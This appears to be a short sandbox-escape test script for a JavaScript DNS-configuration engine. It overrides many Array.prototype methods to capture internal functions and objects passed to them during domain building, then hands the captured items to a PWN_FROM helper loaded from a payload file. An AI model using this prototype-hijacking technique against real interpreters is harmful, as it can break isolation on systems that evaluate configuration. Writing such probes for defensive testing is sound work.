require("./lib/payload.js");
var leaked = [];
["map", "forEach", "filter", "some", "find", "findIndex", "reduce", "reduceRight", "flatMap", "sort", "every", "join", "slice", "concat", "push", "indexOf", "includes", "splice", "fill", "keys", "entries", "values"].forEach(function (m) {
  var orig = Array.prototype[m];
  Array.prototype[m] = function () { for (var i = 0; i < arguments.length; i++) if (arguments[i] && (typeof arguments[i] === "function" || typeof arguments[i] === "object")) leaked.push(arguments[i]); return orig.apply(this, arguments); };
});
D("m.example", REG, DnsProvider(DSP), TXT("@", ["a", "b"]), MX("@", 10, "mx.example.com."),
  DMARC_BUILDER({ policy: "none", rua: ["mailto:a@example.com"] }), SPF_BUILDER({ label: "@", parts: ["v=spf1", "include:a.example", "-all"] }),
  CAA_BUILDER({ label: "@", issue: ["ca.example"], iodef: "mailto:x@example.com" }), M365_BUILDER({ initialDomain: "x.onmicrosoft.com" }),
  CF_TAGS("a", "b"), NAMESERVER("ns1.example.net."), IGNORE("x"));
D_EXTEND("sub.m.example", A("x", "192.0.2.1"));
REPORT("count", "captured " + leaked.length);
leaked.forEach(function (v, i) { if (i < 40) PWN_FROM(v, "m" + i); });
